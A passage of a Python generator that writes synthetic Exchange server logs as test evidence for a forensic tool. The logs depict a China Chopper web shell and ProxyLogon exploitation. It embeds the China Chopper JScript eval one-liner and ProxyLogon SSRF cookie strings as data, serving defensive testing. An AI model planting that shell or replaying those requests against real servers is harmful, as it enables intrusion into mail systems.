#!/usr/bin/env python3
"""Writes dwell's example evidence: a triage copy of EXCH01, an Exchange 2016 server of contoso.local.

Deterministic (fixed seed, fixed archive timestamps, no clock reads): running it again gives the same files.
Usage (from the repository root):

    python3 tools/generate-examples.py                      # rewrites examples/EXCH01, examples/rp01
    python3 tools/generate-examples.py --out /tmp/x --expected /tmp/x.json

Besides the evidence it writes the expected inventory (per item: format, events, first, last, sha256; per
format totals; coverage gaps) to dwell-cli/src/test/resources/examples-expected.json. That file is the
generator's own account of what it wrote - it counts the records it emits, it never parses them - and the
end-to-end test InventoryIT holds `dwell inventory examples/` to it.

The story (examples/README.md tells it in full): an intruder from 203.0.113.77 probes EXCH01 on 2019-04-11
and plants a China Chopper web shell /aspnet_client/system_web/log.aspx, used now and then through 2019-2020,
from 198.51.100.23 from August 2020 on. In March 2021 ProxyLogon (CVE-2021-26855/26857/26858/27065) is
exploited from 104.140.114.110 and 198.51.100.23; a mailbox is exported; the old shell is used once more. On
2021-03-06 a reverse proxy (rp01) is put in front of EXCH01; it blocks the attackers' later attempts.
"""
import argparse
import datetime as dt
import hashlib
import io
import json
import os
import random
import zipfile
import struct
import calendar

SEED = 20210302
HOST = "EXCH01"
FQDN = "EXCH01.contoso.local"
DOMAIN = "contoso.local"
SERVER_IP = "10.0.0.21"
PROXY_IP = "10.0.0.3"
BUILD = "15.01.2106.002"
ADMIN_IP = "10.0.2.5"

OLD_INTRUDER = "203.0.113.77"
LATER_INTRUDER = "198.51.100.23"
CISA_IP = "104.140.114.110"
SCANNER = "203.0.113.9"
CHOPPER_UA = "Mozilla/4.0+(compatible;+MSIE+6.0;+Windows+NT+5.1)"
SHELL = "/aspnet_client/system_web/log.aspx"

IIS_START = dt.date(2019, 3, 1)
IIS_END = dt.date(2021, 3, 9)
ZIPPED_UNTIL = dt.date(2019, 12, 31)  # 2019 logs were zipped by the admins into W3SVC1/old-logs.zip
IIS_MISSING = [(dt.date(2019, 8, 5), dt.date(2019, 8, 18)),  # server moved to a new host: no logs kept
               (dt.date(2020, 6, 14), dt.date(2020, 7, 2))]  # logs deleted to free disk space
XFF_FROM = dt.datetime(2021, 3, 6, 8, 0, 0)  # IIS restarted to log X-Forwarded-For behind rp01
RECENT = [dt.date(2021, 3, 1) + dt.timedelta(days=i) for i in range(9)]  # Exchange logs kept 2021-03-01..09
ZIP_TIME = (2020, 1, 6, 9, 30, 0)

USERS = ["j.smith", "a.jones", "m.garcia", "l.chen", "p.novak", "s.kowalski", "r.patel", "e.mueller"]
HEALTH = "HealthMailbox8c9d1e2f3a4b4c5d9e8f7a6b5c4d3e2f"
CHROME = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/80.0.3987.149+Safari/537.36"
OUTLOOK = "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.4966;+Pro)"
IPHONE = "Apple-iPhone11C8/1705.31"
CANARY = "aBcDeFgH1234567890kLmNoPqRsTuVwXyZ_0123456789abcdefghijklmnopqrstu"
SCRIPT = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>'
SSRF_ANCHOR = "ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#"


def user_ip(user):
    return "10.0.1.%d" % (11 + USERS.index(user) * 6)


def iso(t):
    """As dwell prints times (java.time.Instant): no fraction when it is zero."""
    if t.microsecond == 0:
        return t.strftime("%Y-%m-%dT%H:%M:%SZ")
    return ms(t)


def ms(t):
    """As Exchange and Windows write times: always milliseconds."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


class Evidence:
    """Collects the files to write and the generator's own count of the events in each."""

    def __init__(self, out, display_root):
        self.out = out
        self.display_root = display_root
        self.files = {}      # relative path -> bytes
        self.items = {}      # display path -> {"format", "events", "times"}
        self.series_days = {}
        # examples/README.md is written by hand: listed, its bytes not checked (null sha256 and size)
        self.items[display_root + "/README.md"] = {"format": "unknown", "events": 0, "times": [], "bytes": None}

    def add(self, rel, text, fmt, times, newline="\r\n", series=None, zip_member_of=None, events=None):
        data = text.replace("\n", newline).encode("utf-8")
        if zip_member_of is None:
            self.files[rel] = data
            display = self.display_root + "/" + rel
        else:
            display = self.display_root + "/" + zip_member_of + "!/" + rel
        self.items[display] = {"format": fmt, "events": len(times) if events is None else events, "times": times,
                               "bytes": data}
        if series is not None:
            self.series_days.setdefault(series, set()).update(t.date() for t in times)
        return data

    def add_raw(self, rel, data, fmt):
        self.files[rel] = data
        self.items[self.display_root + "/" + rel] = {"format": fmt, "events": 0, "times": [], "bytes": data}

    def write(self):
        for rel, data in sorted(self.files.items()):
            path = os.path.join(self.out, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)

    def expected(self):
        items = []
        formats = {}
        all_times = []
        for path in sorted(self.items):
            it = self.items[path]
            times = it["times"]
            first = iso(min(times)) if times else None
            last = iso(max(times)) if times else None
            data = it["bytes"]
            items.append({"path": path, "sha256": None if data is None else hashlib.sha256(data).hexdigest(),
                          "size": None if data is None else len(data),
                          "format": it["format"], "events": it["events"], "first": first, "last": last})
            f = formats.setdefault(it["format"], {"items": 0, "events": 0, "times": []})
            f["items"] += 1
            f["events"] += it["events"]
            f["times"] += times
            all_times += times
        fmt_out = {}
        for k in sorted(formats):
            v = formats[k]
            fmt_out[k] = {"items": v["items"], "events": v["events"],
                          "first": iso(min(v["times"])) if v["times"] else None,
                          "last": iso(max(v["times"])) if v["times"] else None}
        gaps = []
        for series in sorted(self.series_days):
            days = sorted(self.series_days[series])
            for a, b in zip(days, days[1:]):
                if (b - a).days > 1:
                    gaps.append({"series": self.display_root + "/" + series,
                                 "from": str(a + dt.timedelta(days=1)), "to": str(b - dt.timedelta(days=1))})
        return {"items": items, "formats": fmt_out, "total_events": sum(i["events"] for i in items),
                "first": iso(min(all_times)), "last": iso(max(all_times)), "gaps": gaps}


# ---------------------------------------------------------------------------------------------- IIS W3C

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken")


def iis_header(t, xff=False):
    fields = IIS_FIELDS + (" X-Forwarded-For" if xff else "")
    return ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: %s\n#Fields: %s\n"
            % (t.strftime("%Y-%m-%d %H:%M:%S"), fields))


def iis_line(t, method, stem, query, port, user, ip, ua, status, taken, referer="-", xff=None, win32=0, sub=0):
    cells = [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), SERVER_IP, method, stem, query or "-", str(port),
             user or "-", ip, ua or "-", referer, str(status), str(sub), str(win32), str(taken)]
    if xff is not None:
        cells.append(xff)
    return " ".join(cells) + "\n"


def benign_iis(rng, day):
    """Two to five ordinary requests: users on OWA, Outlook, phones, the health probes, an admin on ECP."""
    out = []
    n = rng.randint(2, 5)
    for _ in range(n):
        t = dt.datetime.combine(day, dt.time(rng.randint(6, 19), rng.randint(0, 59), rng.randint(0, 59)))
        u = rng.choice(USERS)
        kind = rng.randint(0, 9)
        if kind == 0:
            out.append((t, "GET", "/owa/", None, 443, "CONTOSO\\" + u, user_ip(u), CHROME, 200, rng.randint(15, 90)))
        elif kind == 1:
            out.append((t, "POST", "/EWS/Exchange.asmx", None, 443, "CONTOSO\\" + u, user_ip(u), OUTLOOK, 200,
                        rng.randint(9, 60)))
        elif kind == 2:
            out.append((t, "POST", "/Microsoft-Server-ActiveSync/default.eas",
                        "Cmd=Sync&User=%s&DeviceId=ApplF17XK1Q%d&DeviceType=iPhone" % (u, USERS.index(u)), 443,
                        "contoso\\" + u, "10.0.3.%d" % (40 + USERS.index(u)), IPHONE, 200, rng.randint(100, 900)))
        elif kind == 3:
            out.append((t, "POST", "/Autodiscover/Autodiscover.xml", None, 443, u + "@" + DOMAIN, user_ip(u), OUTLOOK,
                        200, rng.randint(5, 30)))
        elif kind == 4:
            out.append((t, "GET", "/owa/healthcheck.htm", None, 443, None, "127.0.0.1", "AMProbe/Local/ClientAccess",
                        200, 0))
        elif kind == 5:
            out.append((t, "POST", "/mapi/emsmdb/", "mailboxId=%s@%s" % (HEALTH, DOMAIN), 443,
                        "CONTOSO\\" + HEALTH, "::1", "MapiHttpClient", 200, rng.randint(3, 20)))
        elif kind == 6:
            # Exchange's own logon page and its stylesheet: GETs, the look-alikes of the 2021 POSTs
            out.append((t, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0",
                        443, None, user_ip(u), CHROME, 200, rng.randint(5, 20)))
            out.append((t + dt.timedelta(seconds=1), "GET", "/owa/auth/Current/themes/resources/logon.css", None,
                        443, None, user_ip(u), CHROME, 200, 1))
        elif kind == 7:
            out.append((t, "GET", "/ecp/", None, 443, "CONTOSO\\administrator", ADMIN_IP, CHROME, 200,
                        rng.randint(40, 200)))
            out.append((t + dt.timedelta(seconds=4), "POST", "/ecp/DDI/DDIService.svc/GetList",
                        "schema=MailboxService&msExchEcpCanary=" + CANARY, 443, "CONTOSO\\administrator", ADMIN_IP,
                        CHROME, 200, rng.randint(40, 200)))
        elif kind == 8:
            out.append((t, "GET", "/aspnet_client/system_web/4_0_30319/", None, 443, None, user_ip(u), CHROME, 403,
                        1))
        else:
            out.append((t, "POST", "/rpc/rpcproxy.dll", "RPC_IN_DATA", 443, "CONTOSO\\" + u, user_ip(u), "MSRPC",
                        200, rng.randint(100, 3000)))
    return out


SHELL_DAYS = [  # (day, ip, posts): the China Chopper shell in use
    (dt.date(2019, 4, 11), OLD_INTRUDER, 3), (dt.date(2019, 4, 19), OLD_INTRUDER, 2),
    (dt.date(2019, 5, 23), OLD_INTRUDER, 1), (dt.date(2019, 7, 2), OLD_INTRUDER, 2),
    (dt.date(2019, 9, 17), OLD_INTRUDER, 1), (dt.date(2019, 11, 5), OLD_INTRUDER, 2),
    (dt.date(2020, 2, 10), OLD_INTRUDER, 1), (dt.date(2020, 4, 22), OLD_INTRUDER, 2),
    (dt.date(2020, 8, 4), LATER_INTRUDER, 2), (dt.date(2020, 10, 13), LATER_INTRUDER, 1),
    (dt.date(2021, 1, 19), LATER_INTRUDER, 2), (dt.date(2021, 3, 4), LATER_INTRUDER, 1),
]


def attack_iis(day):
    t0 = dt.datetime.combine
    out = []
    if day == dt.date(2019, 4, 11):
        base = t0(day, dt.time(9, 12, 44))
        for i, (m, stem, status) in enumerate([("GET", "/owa/auth/logon.aspx", 200), ("GET", "/ecp/", 302),
                                               ("GET", "/aspnet_client/", 403),
                                               ("GET", "/aspnet_client/system_web/", 403)]):
            out.append((base + dt.timedelta(seconds=7 * i), m, stem, None, 443, None, OLD_INTRUDER, CHOPPER_UA,
                        status, 3))
    for d, ip, posts in SHELL_DAYS:
        if d == day:
            base = t0(day, dt.time(9, 31, 5) if day == dt.date(2019, 4, 11) else dt.time(2 + day.day % 5, 14, 9))
            for i in range(posts):
                out.append((base + dt.timedelta(seconds=41 * i), "POST", SHELL, None, 443, None, ip, CHOPPER_UA, 200,
                            312 + 17 * i))
    if day == dt.date(2021, 3, 3):
        b = t0(day, dt.time(1, 17, 58))
        seq = [
            (0, "POST", "/ecp/y.js", None, "ExchangeServicesClient/0.0.0.0", 200),
            (5, "POST", "/ecp/proxyLogon.ecp", None, "python-requests/2.25.1", 241),
            (11, "POST", "/ecp/DDI/DDIService.svc/GetObject", "schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY,
             "python-requests/2.25.1", 200),
            (17, "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY,
             "python-requests/2.25.1", 200),
            (24, "POST", "/ecp/DDI/DDIService.svc/SetObject",
             "schema=ResetOABVirtualDirectory&msExchEcpCanary=" + CANARY, "python-requests/2.25.1", 200),
            (102, "GET", "/owa/auth/RedirSuiteServerProxy.aspx", None, "python-requests/2.25.1", 200),
            (103, "POST", "/owa/auth/RedirSuiteServerProxy.aspx", None, "python-requests/2.25.1", 200),
            (1607, "POST", "/ecp/y.js", None, "ExchangeServicesClient/0.0.0.0", 200),
            (1613, "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory&msExchEcpCanary="
             + CANARY, "python-requests/2.25.1", 200),
        ]
        for sec, m, stem, q, ua, status in seq:
            out.append((b + dt.timedelta(seconds=sec), m, stem, q, 443, None, CISA_IP, ua, status, 40))
        b = t0(day, dt.time(3, 41, 2))
        for i in range(3):
            out.append((b + dt.timedelta(seconds=9 * i), "POST", "/owa/auth/Current/themes/resources/logon.css", None,
                        443, None, LATER_INTRUDER, CHROME, 200, 15))
        out.append((t0(day, dt.time(3, 49, 30)), "GET", "/aspnet_client/j.smith.pst", None, 443, None,
                    LATER_INTRUDER, CHROME, 200, 48211))
    if day == XFF_FROM.date():
        # the last request logged before IIS was restarted with the X-Forwarded-For field
        out.append((t0(day, dt.time(6, 30, 0)), "GET", "/owa/healthcheck.htm", None, 443, None, "127.0.0.1",
                    "AMProbe/Local/ClientAccess", 200, 0))
    if day == dt.date(2021, 3, 5):
        b = t0(day, dt.time(6, 2, 11))
        for i, (m, stem, status) in enumerate([("GET", "/owa/auth/x.js", 200), ("POST", "/ecp/x.js", 500),
                                               ("GET", "/owa/auth/errorFE.aspx", 200)]):
            out.append((b + dt.timedelta(seconds=2 * i), m, stem, None, 443, None, SCANNER,
                        "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)", status,
                        5))
    return out


def proxy_requests(rng):
    """rp01 in front of EXCH01 from 2021-03-06: (time, client, method, path, status, bytes, ua, forwarded)."""
    out = []
    for day in [dt.date(2021, 3, 6) + dt.timedelta(days=i) for i in range(4)]:
        for _ in range(3):
            t = dt.datetime.combine(day, dt.time(rng.randint(8, 20), rng.randint(0, 59), rng.randint(0, 59)))
            u = rng.choice(USERS)
            out.append((t, "100.64.%d.%d" % (12 + USERS.index(u), 7 + USERS.index(u)), "POST",
                        "/Microsoft-Server-ActiveSync/default.eas?Cmd=Sync&User=%s&DeviceId=ApplF17XK1Q%d&DeviceType=iPhone"
                        % (u, USERS.index(u)), 200, rng.randint(300, 9000), IPHONE.replace("+", " "), True))
    out.append((dt.datetime(2021, 3, 8, 14, 2, 11), LATER_INTRUDER, "POST", SHELL, 403, 153,
                CHOPPER_UA.replace("+", " "), False))
    out.append((dt.datetime(2021, 3, 8, 14, 2, 52), LATER_INTRUDER, "POST",
                "/owa/auth/Current/themes/resources/logon.css", 403, 153, CHROME.replace("+", " "), False))
    out.append((dt.datetime(2021, 3, 8, 22, 40, 3), OLD_INTRUDER, "GET", SHELL, 403, 153,
                CHOPPER_UA.replace("+", " "), False))
    out.append((dt.datetime(2021, 3, 9, 5, 11, 40), SCANNER, "POST", "/ecp/y.js", 403, 153,
                "ExchangeServicesClient/0.0.0.0", False))
    out.sort()
    return out


def missing(day):
    return any(a <= day <= b for a, b in IIS_MISSING)


def gen_iis(ev, rng, proxied):
    zipped = io.BytesIO()
    members = []
    day = IIS_START
    while day <= IIS_END:
        if not missing(day):
            rows = benign_iis(rng, day) + attack_iis(day)
            times = []
            start = dt.datetime.combine(day, dt.time(0, 0, 1))
            text = iis_header(start)
            restarted = False
            for t, c_ip, m, path, status, size, ua, fwd in proxied:
                if t.date() == day and fwd:
                    stem, _, q = path.partition("?")
                    u = q.split("User=")[1].split("&")[0]
                    rows.append((t + dt.timedelta(seconds=0), m, stem, q, 443, "contoso\\" + u, PROXY_IP,
                                 ua.replace(" ", "+"), status, 250, "-", c_ip))
            rows.sort(key=lambda r: r[0])
            for r in rows:
                t = r[0]
                xff = None
                if t >= XFF_FROM:
                    if not restarted and day == XFF_FROM.date():
                        text += iis_header(XFF_FROM, xff=True)
                        restarted = True
                    xff = r[11] if len(r) > 11 else "-"
                if len(r) > 11:
                    r = r[:11]
                text += iis_line(*r[:10], xff=xff)
                times.append(t)
            if day > XFF_FROM.date():
                text = iis_header(start, xff=True) + text[len(iis_header(start)):]
            name = "u_ex%s.log" % day.strftime("%y%m%d")
            if day <= ZIPPED_UNTIL:
                members.append((name, ev.add(name, text, "iis-w3c", times, series=W3SVC1,
                                             zip_member_of=W3SVC1 + "/old-logs.zip")))
            else:
                ev.add(W3SVC1 + "/" + name, text, "iis-w3c", times, series=W3SVC1)
        day += dt.timedelta(days=1)
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 0
            z.writestr(info, data)
    ev.add_raw(W3SVC1 + "/old-logs.zip", zipped.getvalue(), "zip")


W3SVC1 = "EXCH01/inetpub/logs/LogFiles/W3SVC1"
EXCHANGE = "EXCH01/Exchange"

# ---------------------------------------------------------------------------------------------- HttpProxy

PROXY_FIELDS = ["DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
                "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
                "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
                "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
                "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint", "BackEndCookie",
                "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
                "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
                "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
                "AccountForestLatencyBreakup", "TotalAccountForestLatency", "ResourceForestLatencyBreakup",
                "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup", "TotalSharedCacheLatency",
                "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency",
                "BackendReqInitLatency", "BackendReqStreamLatency", "BackendProcessingLatency",
                "BackendRespInitLatency", "BackendRespStreamLatency", "ClientRespStreamLatency",
                "KerberosAuthHeaderLatency", "HandlerCompletionLatency", "RequestHandlerLatency",
                "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency", "RoutingLatency",
                "HttpProxyOverhead", "TotalRequestTime", "UrlQuery", "BackEndGenericInfo", "GenericInfo",
                "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid",
                "PartitionEndpointLookupLatency", "RoutingStatus"]
OLD_PROXY_FIELDS = ["DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
                    "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
                    "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
                    "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
                    "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
                    "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
                    "TargetOutstandingRequests", "UrlQuery", "GenericInfo", "GenericErrors"]


def csv_cell(v):
    v = "" if v is None else str(v)
    if any(c in v for c in ',"\r\n'):
        return '"' + v.replace('"', '""') + '"'
    return v


def exchange_header(log_type, t, fields):
    return ("#Software: Microsoft Exchange Server\n#Version: %s\n#Log-type: %s\n#Date: %s\n#Fields: %s\n"
            % (BUILD, log_type, ms(t), ",".join(fields)))


def request_id(rng):
    h = "%032x" % rng.getrandbits(128)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def proxy_row(rng, t, protocol, stem, user, anchor, ua, ip, status, method="POST", target=FQDN, hint="", query="",
              generic="", errors="", fields=PROXY_FIELDS):
    values = {"DateTime": ms(t), "RequestId": request_id(rng), "MajorVersion": 15, "MinorVersion": 1,
              "BuildVersion": 2106, "RevisionVersion": 2, "Protocol": protocol, "UrlHost": "mail.contoso.com",
              "UrlStem": stem, "ProtocolAction": "", "AuthenticationType": "Negotiate" if user else "",
              "IsAuthenticated": "True" if user else "False", "AuthenticatedUser": user,
              "Organization": "", "AnchorMailbox": anchor, "UserAgent": ua, "ClientIpAddress": ip,
              "ServerHostName": FQDN, "HttpStatus": status, "BackEndStatus": status if status < 500 else "",
              "Method": method, "ProxyAction": "Proxy", "TargetServer": target, "TargetServerVersion": "Version 15.1 (Build 2106.2)",
              "RoutingType": "", "RoutingHint": hint, "RequestBytes": rng.randint(0, 4000),
              "ResponseBytes": rng.randint(200, 90000), "UrlQuery": query, "GenericInfo": generic,
              "GenericErrors": errors, "TotalRequestTime": rng.randint(3, 400)}
    return ",".join(csv_cell(values.get(f, "")) for f in fields) + "\n"


PROTOCOLS = ["Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Owa"]


def benign_proxy(rng, protocol, day):
    out = []
    for _ in range(rng.randint(2, 3)):
        t = dt.datetime.combine(day, dt.time(rng.randint(6, 19), rng.randint(0, 59), rng.randint(0, 59),
                                             rng.randint(0, 999) * 1000))
        u = rng.choice(USERS)
        who = "%s@%s" % (u, DOMAIN)
        if protocol == "Autodiscover":
            if rng.random() < 0.5:
                out.append((t, protocol, "/Autodiscover/Autodiscover.xml", "CONTOSO\\" + u, "SMTP:" + who,
                            OUTLOOK.replace("+", " "), user_ip(u), 200, "POST", "", ""))
            else:  # the health probe, from localhost
                out.append((t, protocol, "/Autodiscover/Autodiscover.xml", "CONTOSO\\" + HEALTH,
                            "SMTP:%s@%s" % (HEALTH, DOMAIN), "AMProbe/Local/ClientAccess", "127.0.0.1", 200, "POST",
                            "", ""))
        elif protocol == "Eas":
            out.append((t, protocol, "/Microsoft-Server-ActiveSync/default.eas", "contoso\\" + u, "SMTP:" + who,
                        IPHONE, "10.0.3.%d" % (40 + USERS.index(u)), 200, "POST", "Cmd=Sync&User=" + u, ""))
        elif protocol == "Ecp":
            if rng.random() < 0.5:
                out.append((t, protocol, "/ecp/DDI/DDIService.svc/GetList", "CONTOSO\\administrator",
                            "ServerInfo~" + FQDN, CHROME.replace("+", " "), ADMIN_IP, 200, "POST",
                            "schema=MailboxService&msExchEcpCanary=" + CANARY, ""))
            else:
                out.append((t, protocol, "/ecp/", "CONTOSO\\administrator",
                            "Sid~S-1-5-21-3623811015-3361044348-30300820-500", CHROME.replace("+", " "), ADMIN_IP,
                            200, "GET", "", ""))
        elif protocol == "Ews":
            out.append((t, protocol, "/EWS/Exchange.asmx", "CONTOSO\\" + u, "SMTP:" + who, OUTLOOK.replace("+", " "),
                        user_ip(u), 200, "POST", "", ""))
        elif protocol == "Mapi":
            out.append((t, protocol, "/mapi/emsmdb/", "CONTOSO\\" + u, "MailboxGuid~6a1f0d2e-9b7c-4e55-8d1a-"
                        + "%012x" % (USERS.index(u) + 1) + "@" + DOMAIN, "Microsoft Office/16.0", user_ip(u), 200,
                        "POST", "mailboxId=6a1f0d2e@" + DOMAIN, ""))
        else:
            out.append((t, protocol, "/owa/", "CONTOSO\\" + u, "SMTP:" + who, CHROME.replace("+", " "), user_ip(u),
                        200, "GET", "", ""))
    return out


def attack_proxy(day):
    out = []
    if day == dt.date(2021, 3, 3):
        b = dt.datetime(2021, 3, 3, 1, 17, 58, 217000)
        for sec, stem, anchor, status, ua, q in [
            (0, "/ecp/y.js", SSRF_ANCHOR, 200, "ExchangeServicesClient/0.0.0.0", ""),
            (5, "/ecp/proxyLogon.ecp", "ServerInfo~a]@EXCH01.contoso.local:444/ecp/proxyLogon.ecp?#", 241,
             "python-requests/2.25.1", ""),
            (11, "/ecp/DDI/DDIService.svc/GetObject", "ServerInfo~a]@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc"
             "/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY + "&a=~1942062522#", 200,
             "python-requests/2.25.1", "schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY),
            (17, "/ecp/DDI/DDIService.svc/SetObject", "ServerInfo~a]@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc"
             "/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY + "&a=~1942062522#", 200,
             "python-requests/2.25.1", "schema=OABVirtualDirectory&msExchEcpCanary=" + CANARY),
            (24, "/ecp/DDI/DDIService.svc/SetObject", "ServerInfo~a]@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc"
             "/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=" + CANARY + "&a=~1942062522#", 200,
             "python-requests/2.25.1", "schema=ResetOABVirtualDirectory&msExchEcpCanary=" + CANARY),
            (1607, "/ecp/y.js", SSRF_ANCHOR, 200, "ExchangeServicesClient/0.0.0.0", ""),
        ]:
            target = anchor.split("~", 1)[1]
            out.append((b + dt.timedelta(seconds=sec), "Ecp", stem, "", anchor, ua, CISA_IP, status, "POST", q,
                        target))
    if day == dt.date(2021, 3, 5):
        b = dt.datetime(2021, 3, 5, 6, 2, 13, 540000)
        out.append((b, "Ecp", "/ecp/x.js", "", "ServerInfo~*/ecp/default.flt?~3", "Mozilla/5.0 (compatible; "
                    "Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", SCANNER, 500, "POST", "", "*"))
        out.append((b + dt.timedelta(seconds=1), "Owa", "/owa/auth/x.js", "", "ServerInfo~*/owa/auth/logon.aspx?~3",
                    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", SCANNER,
                    200, "GET", "", "*"))
    return out


def gen_httpproxy(ev, rng):
    for protocol in PROTOCOLS:
        for day in RECENT:
            rows = benign_proxy(rng, protocol, day) + [r for r in attack_proxy(day) if r[1] == protocol]
            rows.sort(key=lambda r: r[0])
            text = exchange_header("HttpProxy Logs", dt.datetime.combine(day, dt.time(0, 0, 2)), PROXY_FIELDS)
            for t, proto, stem, user, anchor, ua, ip, status, method, q, target in rows:
                text += proxy_row(rng, t, proto, stem, user, anchor, ua, ip, status, method,
                                  target=target or FQDN, query=q,
                                  hint="BEResource-Cookie" if anchor.startswith("ServerInfo~a]") else "",
                                  generic="BeginRequest=%s;" % ms(t) if user else "")
            ev.add("%s/Logging/HttpProxy/%s/HttpProxy_%s00-1.LOG" % (EXCHANGE, protocol, day.strftime("%Y%m%d")), text,
                   "exchange-httpproxy", [r[0] for r in rows], series="%s/Logging/HttpProxy/%s" % (EXCHANGE, protocol))
    # a file left from the build before the CU upgrade: no # directives, a first line DateTime,..., fewer columns
    day = dt.date(2019, 4, 11)
    rows = [
        (dt.datetime(2019, 4, 11, 9, 14, 31, 120000), "/rpc/rpcproxy.dll", "", "", OLD_INTRUDER, 401,
         "MSRPC", "RPC_IN_DATA"),
        (dt.datetime(2019, 4, 11, 9, 14, 33, 870000), "/rpc/rpcproxy.dll", "", "", OLD_INTRUDER, 401,
         "MSRPC", "RPC_OUT_DATA"),
        (dt.datetime(2019, 4, 11, 10, 2, 9, 404000), "/rpc/rpcproxy.dll", "CONTOSO\\p.novak", "SMTP:p.novak@" + DOMAIN,
         user_ip("p.novak"), 200, "MSRPC", "RPC_IN_DATA"),
        (dt.datetime(2019, 4, 11, 16, 45, 50, 5000), "/rpc/rpcproxy.dll", "CONTOSO\\r.patel", "SMTP:r.patel@" + DOMAIN,
         user_ip("r.patel"), 200, "MSRPC", "RPC_OUT_DATA"),
    ]
    text = ",".join(OLD_PROXY_FIELDS) + "\n"
    for t, stem, user, anchor, ip, status, ua, q in rows:
        text += proxy_row(rng, t, "RpcHttp", stem, user, anchor, ua, ip, status, "POST", query=q,
                          fields=OLD_PROXY_FIELDS)
    ev.add("%s/Logging/HttpProxy/RpcHttp/HttpProxy_2019041100-1.LOG" % EXCHANGE, text, "exchange-httpproxy",
           [r[0] for r in rows], series="%s/Logging/HttpProxy/RpcHttp" % EXCHANGE)


# ---------------------------------------------------------------------------------------------- ECP

def ecp_data(pairs):
    return ";".join("S:%s=%s" % (k, v) for k, v in pairs) + ";"


def gen_ecp(ev, rng):
    for day in RECENT:
        rows = []
        for _ in range(rng.randint(2, 3)):
            t = dt.datetime.combine(day, dt.time(rng.randint(8, 17), rng.randint(0, 59), rng.randint(0, 59),
                                                 rng.randint(0, 999) * 1000))
            cmd, url = rng.choice([
                ("Get-Mailbox.Identity='%s'" % rng.choice(USERS), "/ecp/DDI/DDIService.svc/GetObject?schema=MailboxService"),
                ("Get-OabVirtualDirectory.Server='EXCH01'", "/ecp/DDI/DDIService.svc/GetList?schema=OABVirtualDirectory"),
                ("Set-Mailbox.Identity='%s'.ProhibitSendQuota='9.5 GB'" % rng.choice(USERS),
                 "/ecp/DDI/DDIService.svc/SetObject?schema=MailboxService"),
            ])
            rows.append((t, [("TIME", rng.randint(30, 900)), ("SID", request_id(rng)), ("REQID", request_id(rng)),
                             ("URL", url + "&msExchEcpCanary=" + CANARY), ("REFERRER", "https://mail.contoso.com/ecp/"),
                             ("EX", ""), ("RS", 0), ("BLD", "15.1.2106.2"), ("USR", "CONTOSO\\administrator"),
                             ("IP", ADMIN_IP), ("UA", CHROME.replace("+", " ")), ("CMD", cmd)]))
        if day == dt.date(2021, 3, 3):
            for t, schema, cmd in [
                (dt.datetime(2021, 3, 3, 1, 18, 9, 310000), "OABVirtualDirectory",
                 "Get-OabVirtualDirectory.Identity='EXCH01\\OAB (Default Web Site)'"),
                (dt.datetime(2021, 3, 3, 1, 18, 15, 442000), "OABVirtualDirectory",
                 "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='EXCH01\\OAB (Default Web Site)'" % SCRIPT),
